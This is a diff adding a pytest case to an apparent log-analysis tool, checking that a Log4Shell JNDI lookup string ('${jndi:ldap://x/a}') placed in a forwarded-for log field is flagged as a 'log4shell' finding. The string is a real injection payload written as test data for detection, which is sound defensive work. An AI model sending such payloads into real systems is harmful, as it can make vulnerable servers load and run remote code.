@@ -307,3 +307,16 @@ def test_nightly_prints_the_review_summary(tmp_path: Path) -> None:
     log.write_text(line("203.0.113.9", 30, "GET /.env HTTP/1.1", 404) + "\n")
     r = run.invoke(cli, [*args, "--fail-on", "low"])
     assert r.exit_code == 1 and "sensitive_file" in r.stdout
+
+
+def test_log4shell_in_any_logged_field(store: Store, tmp_path: Path) -> None:
+    from logtool.parsers import get_format
+
+    log = tmp_path / "xff.log"
+    log.write_text(
+        f'203.0.113.8 - - [{T0}:01 +0000] "GET / HTTP/1.1" 200 1 "-" "curl/8" "${{jndi:ldap://x/a}}"\n'
+        f'203.0.113.9 - - [{T0}:02 +0000] "GET / HTTP/1.1" 200 1 "-" "curl/8" "198.51.100.1"\n'
+    )
+    ingest(store, make_inputs([str(log)]), Policy(), NOW, fmt=get_format("combined_xff"))
+    found = review(store, Policy())
+    assert [(f.category, f.client, f.count) for f in found] == [("log4shell", "203.0.113.0/24", 1)]
